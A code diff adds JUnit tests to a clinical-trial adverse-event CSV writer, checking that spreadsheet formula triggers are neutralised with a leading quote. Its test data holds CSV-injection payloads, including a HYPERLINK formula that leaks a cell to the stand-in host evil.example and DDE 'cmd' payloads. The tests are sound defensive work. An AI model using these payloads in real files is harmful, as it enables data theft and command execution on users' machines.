@@ -9,12 +9,16 @@ import java.time.LocalDate;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.stream.Stream;
 
 import com.fasterxml.jackson.databind.MappingIterator;
 import com.fasterxml.jackson.dataformat.csv.CsvMapper;
 import com.fasterxml.jackson.dataformat.csv.CsvSchema;
 
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 import org.celltrial.safety.ae.AdverseEventView;
 import org.celltrial.safety.ae.Origin;
@@ -152,6 +156,61 @@ class SdtmAeWriterTest {
         assertTrue(dataset.nextChunk(List.of(CRS)).startsWith("STUDYID,"));
         assertTrue(dataset.nextChunk(List.of(FATAL_ICANS)).startsWith("CT-CART-01,AE,CT-CART-01-0102,1,"));
         assertEquals("", dataset.nextChunk(List.of()));
+    }
+
+    /**
+     * OWASP CSV injection: a term a spreadsheet would run as a formula is written with a leading {@code '}, quoted;
+     * anything else exactly as it was. Columns: the term as entered, the cell as written, the value read back.
+     */
+    static Stream<Arguments> formulaCells() {
+        return Stream.of(
+                Arguments.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"CRS\")",
+                        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"CRS\"\")\"",
+                        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"CRS\")"),
+                Arguments.of("=1+2", "\"'=1+2\"", "'=1+2"),
+                Arguments.of("+1+2", "\"'+1+2\"", "'+1+2"),
+                Arguments.of("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"", "'-2+3+cmd|' /C calc'!A0"),
+                Arguments.of("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"",
+                        "'@SUM(1+1)*cmd|' /C calc'!A0"),
+                Arguments.of("\t=1+2", "\"'\t=1+2\"", "'\t=1+2"),
+                Arguments.of("\r=1+2", "\"'\r=1+2\"", "'\r=1+2"),
+                // not at the start, or not a trigger: unchanged, and unquoted where RFC 4180 allows
+                Arguments.of("Cytokine release syndrome", "Cytokine release syndrome", "Cytokine release syndrome"),
+                Arguments.of("Hypotension (MAP <65) =grade 2", "Hypotension (MAP <65) =grade 2",
+                        "Hypotension (MAP <65) =grade 2"),
+                Arguments.of(" =1+2", " =1+2", " =1+2"),
+                Arguments.of("'quoted", "'quoted", "'quoted"));
+    }
+
+    @ParameterizedTest(name = "[{index}] {0}")
+    @MethodSource("formulaCells")
+    void neutralisesCellsASpreadsheetWouldRunAsAFormula(String term, String written, String readBack)
+            throws IOException {
+        AdverseEventView event = event("0103", Origin.REPORTED, term, "=10016288", LocalDate.of(2025, 3, 4), 2,
+                List.of(), Relatedness.POSSIBLE, Outcome.RECOVERED, null, List.of());
+
+        String csv = csv(List.of(event));
+        Map<String, String> record = parse(csv).get(0);
+
+        assertTrue(csv.contains("-0103,1," + written + "," + written + ",\"'=10016288\",2,N,"), csv);
+        assertEquals(readBack, record.get("AETERM"));
+        assertEquals(readBack, record.get("AEDECOD"));
+        assertEquals("'=10016288", record.get("AEPTCD"));
+    }
+
+    @ParameterizedTest(name = "[{index}] {0}")
+    @MethodSource("formulaCells")
+    void neutralisesATextCellOnItsOwn(String value, String written, String ignored) {
+        assertEquals(written, SdtmAeWriter.text(value));
+    }
+
+    @Test
+    void numericVariablesAndDatesAreNeverPrefixed() throws IOException {
+        Map<String, String> record = parse(csv(List.of(CRS))).get(0);
+
+        assertEquals("1", record.get("AESEQ"));
+        assertEquals("1", record.get("AETOXGR"));
+        assertEquals("2025-03-02", record.get("AESTDTC"));
     }
 
     /** The dataset as a client receives it: its chunks one after the other, each page written as one chunk. */
